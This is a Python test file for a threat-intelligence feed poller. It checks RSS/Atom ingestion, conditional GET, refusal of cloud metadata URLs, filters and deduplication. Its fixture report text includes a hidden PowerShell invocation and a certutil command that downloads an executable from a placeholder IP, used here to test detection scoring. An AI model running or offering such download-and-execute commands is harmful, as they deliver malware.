"""Polling sources end to end: RSS and Atom, conditional GET, filters, health, failures that do not stop the run."""

from __future__ import annotations

from datetime import UTC, datetime

from ctistudio.store.articles import ArticleFilter, count_articles, get_article, list_articles
from ctistudio.store.sources import SourceDefinition, add_source, get_source, list_source_checks
from ctistudio.testing.feed_server import FeedItem, atom_feed, rss_feed


def _register(service, source_id: str, rss_url: str, **config) -> None:
    with service.store.session() as session:
        add_source(session, SourceDefinition(source_id, source_id.title(), rss_url, rss_url, 3600, True, config))


def _publish(feed_server, prefix: str, titles: list[str], report_page, *, atom: bool = False, **route) -> str:
    items = []
    for n, title in enumerate(titles):
        url = feed_server.add(f"/{prefix}/post-{n}?utm_source=rss", report_page(title))
        feed_server.add(f"/{prefix}/post-{n}", report_page(title))
        items.append(FeedItem(title, url, datetime(2026, 2, n + 1, tzinfo=UTC), author="Feed Author"))
    body = atom_feed(prefix, items) if atom else rss_feed(prefix, items)
    kind = "application/atom+xml" if atom else "application/rss+xml"
    return feed_server.add(f"/{prefix}/feed.xml", body, kind, **route)


async def test_rss_and_atom_sources_are_ingested_with_metadata(service, feed_server, report_page):
    _register(service, "lab", _publish(feed_server, "lab", ["Gootloader returns", "Qakbot is back"], report_page))
    _register(service, "atomlab", _publish(feed_server, "atom", ["Lumma stealer via ClickFix"], report_page, atom=True))
    report = await service.check_sources()
    assert report.articles_new == 3 and report.failed == {}
    with service.store.session() as session:
        articles = list_articles(session, order="published")
        titles = {a.title for a in articles}
        assert titles == {"Gootloader returns", "Qakbot is back", "Lumma stealer via ClickFix"}
        article = next(a for a in articles if a.title == "Qakbot is back")
        assert article.source_id == "lab"
        assert article.canonical_url.endswith("/lab/post-1")  # tracking parameter stripped
        assert article.author == "Feed Author"
        assert article.published_at == datetime(2026, 2, 2, tzinfo=UTC)
        assert "powershell.exe -nop -w hidden" in article.content
        assert "Fixture Labs. All rights reserved" not in article.content  # footer boilerplate removed
        assert article.hunt_score >= 25 and article.platforms == ["windows"]
        assert any(e["signal"] == "powershell_tradecraft" for e in article.hunt_evidence)
        source = get_source(session, "lab")
        assert source.consecutive_failures == 0 and source.last_success_at is not None
        assert source.last_response_ms is not None


async def test_second_check_uses_conditional_get(service, feed_server, report_page):
    feed = _publish(feed_server, "lab", ["One report"], report_page, etag='"v1"')
    _register(service, "lab", feed)
    await service.check_sources()
    second = await service.check_sources(force=True)
    assert second.checks["lab"].status == "not_modified"
    assert feed_server.hits("/lab/feed.xml")[1].headers["If-None-Match"] == '"v1"'
    assert len(feed_server.hits("/lab/post-0")) == 1  # the article page was fetched once
    with service.store.session() as session:
        assert [c.status for c in list_source_checks(session, "lab")] == ["not_modified", "ok"]


async def test_known_entries_are_not_fetched_again(service, feed_server, report_page):
    _register(service, "lab", _publish(feed_server, "lab", ["First", "Second"], report_page))
    await service.check_sources()
    again = await service.check_sources(force=True)
    assert again.checks["lab"].articles_new == 0
    assert again.checks["lab"].details["known"] == 2
    assert len(feed_server.hits("/lab/post-0")) == 1


async def test_failing_sources_do_not_stop_the_run(service, feed_server, report_page):
    _register(service, "good", _publish(feed_server, "good", ["Good report"], report_page))
    _register(service, "gone", feed_server.url("/gone/feed.xml"))  # 404
    _register(service, "garbage", feed_server.add("/garbage.xml", b"\x00\x01\x02 not xml", "application/xml"))
    _register(service, "webpage", feed_server.add("/index.html", "<html><body>blog</body></html>"))
    _register(service, "secret", "http://169.254.169.254/latest/meta-data/")
    report = await service.check_sources()
    assert report.articles_new == 1
    assert set(report.failed) == {"gone", "garbage", "webpage", "secret"}
    assert "HTTP 404" in report.failed["gone"]
    assert "not a readable RSS/Atom feed" in report.failed["garbage"]
    assert "content type text/html is not accepted" in report.failed["webpage"]
    assert "cloud metadata address" in report.failed["secret"]
    with service.store.session() as session:
        gone = get_source(session, "gone")
        assert gone.consecutive_failures == 1 and "HTTP 404" in gone.last_error
        assert list_source_checks(session, "secret")[0].status == "refused"
    await service.check_sources(force=True)
    with service.store.session() as session:
        assert get_source(session, "gone").consecutive_failures == 2


async def test_truncated_feed_keeps_the_entries_it_could_read(service, feed_server, report_page):
    full = rss_feed(
        "cut",
        [
            FeedItem("Complete entry", feed_server.add("/cut/1", report_page("Complete entry"))),
            FeedItem("Lost entry", feed_server.add("/cut/2", report_page("Lost entry"))),
        ],
    )
    cut_at = full.index("Lost entry") - 20
    _register(service, "cut", feed_server.add("/cut/feed.xml", full[:cut_at], "application/rss+xml"))
    report = await service.check_sources()
    check = report.checks["cut"]
    assert check.status == "ok" and check.articles_new == 1
    assert "feed is malformed" in check.details["feed_warning"]


async def test_entry_refusals_are_recorded_with_reasons_and_filters_apply(service, feed_server, report_page):
    feed_server.add("/robots.txt", "User-agent: *\nDisallow: /members/\n", "text/plain")
    items = [
        FeedItem("Kept report", feed_server.add("/blog/kept", report_page("Kept report"))),
        FeedItem("Members only", feed_server.add("/members/post", report_page("Members only"))),
        FeedItem("Join our webinar", feed_server.add("/blog/webinar", report_page("Join our webinar"))),
        FeedItem("Elsewhere", "https://other.example/post"),
        FeedItem("Tiny post", feed_server.add("/blog/tiny", "<html><body><p>Too short.</p></body></html>")),
        FeedItem("Not a post", feed_server.add("/tag/x", report_page("Not a post"))),
        FeedItem("Metadata", "http://169.254.169.254/latest/"),
    ]
    _register(
        service,
        "lab",
        feed_server.add("/feed.xml", rss_feed("lab", items), "application/rss+xml"),
        allowed_domains=["127.0.0.1", "169.254.169.254"],
        post_url_regex=r"/(blog|members)/|169\.254",
        title_exclude_keywords=["webinar"],
        min_content_length=300,
    )
    report = await service.check_sources()
    check = report.checks["lab"]
    assert check.status == "ok" and check.articles_new == 1
    reasons = {item["url"]: item["reason"] for item in check.details["refused"] + check.details["skipped"]}
    assert "disallows /members/post" in reasons[feed_server.url("/members/post")]
    assert "excluded keyword 'webinar'" in reasons[feed_server.url("/blog/webinar")]
    assert "outside allowed_domains" in reasons["https://other.example/post"]
    assert "text too short" in reasons[feed_server.url("/blog/tiny")]
    assert "post_url_regex" in reasons[feed_server.url("/tag/x")]
    assert "cloud metadata address" in reasons["http://169.254.169.254/latest/"]
    assert check.articles_skipped == 6


async def test_rss_only_sources_take_text_from_the_feed(service, feed_server, report_page):
    body = (
        "<p>"
        + " ".join(["certutil -urlcache -f http://203.0.113.9/a.exe a.exe is used to fetch the payload."] * 12)
        + "</p>"
    )
    item = FeedItem("Feed-only report", "https://blocked.example/never-fetched", content=body)
    _register(
        service, "rss", feed_server.add("/feed.xml", rss_feed("rss", [item]), "application/rss+xml"), rss_only=True
    )
    report = await service.check_sources()
    assert report.checks["rss"].articles_new == 1
    with service.store.session() as session:
        article = list_articles(session)[0]
        assert "certutil -urlcache" in article.content and article.extra["extractor"] == "feed-content"


async def test_duplicates_and_near_duplicates_across_sources(service, feed_server, report_page):
    original = report_page("Shared report", extra_paragraphs=["Appendix with the full timeline of the intrusion."])
    near = report_page("Shared report", extra_paragraphs=["Appendix with the full timeline of the intrusions."])
    items_a = [FeedItem("Shared report", feed_server.add("/a/shared", original))]
    items_b = [
        FeedItem("Shared report (syndicated)", feed_server.add("/b/shared-copy", original)),
        FeedItem("Shared report (edited)", feed_server.add("/b/shared-edit", near)),
    ]
    _register(service, "a", feed_server.add("/a/feed.xml", rss_feed("a", items_a), "application/rss+xml"))
    await service.check_sources()
    _register(service, "b", feed_server.add("/b/feed.xml", rss_feed("b", items_b), "application/rss+xml"))
    report = await service.check_sources()
    assert report.checks["b"].articles_duplicate == 2
    with service.store.session() as session:
        first = list_articles(session, ArticleFilter(source_id="a"))[0]
        copies = {a.title: a for a in list_articles(session, ArticleFilter(source_id="b"))}
        exact, edited = copies["Shared report (syndicated)"], copies["Shared report (edited)"]
        assert (exact.status, exact.duplicate_of, exact.duplicate_reason) == ("duplicate", first.id, "content_hash")
        assert edited.status == "duplicate" and edited.duplicate_of == first.id
        assert edited.duplicate_reason.startswith("simhash:") and int(edited.duplicate_reason[8:]) <= 3
        assert count_articles(session, ArticleFilter(include_duplicates=False)) == 1
        assert get_article(session, edited.id).content != first.content
    duplicates = report.checks["b"].details["duplicates"]
    assert {d["reason"].split(" (")[0] for d in duplicates} == {
        f"same text as article {first.id}",
        f"near-duplicate of article {first.id}",
    }


async def test_polling_mode_checks_then_waits_until_stopped(service, feed_server, report_page):
    import asyncio

    _register(service, "lab", _publish(feed_server, "lab", ["Polled report"], report_page))
    stop = asyncio.Event()
    task = asyncio.create_task(service.run_forever(stop=stop))
    for _ in range(200):
        await asyncio.sleep(0.05)
        with service.store.session() as session:
            if list_source_checks(session, "lab"):
                break
    stop.set()
    await asyncio.wait_for(task, timeout=5)
    with service.store.session() as session:
        assert [c.status for c in list_source_checks(session, "lab")] == ["ok"]  # not due again within the hour
        assert count_articles(session) == 1
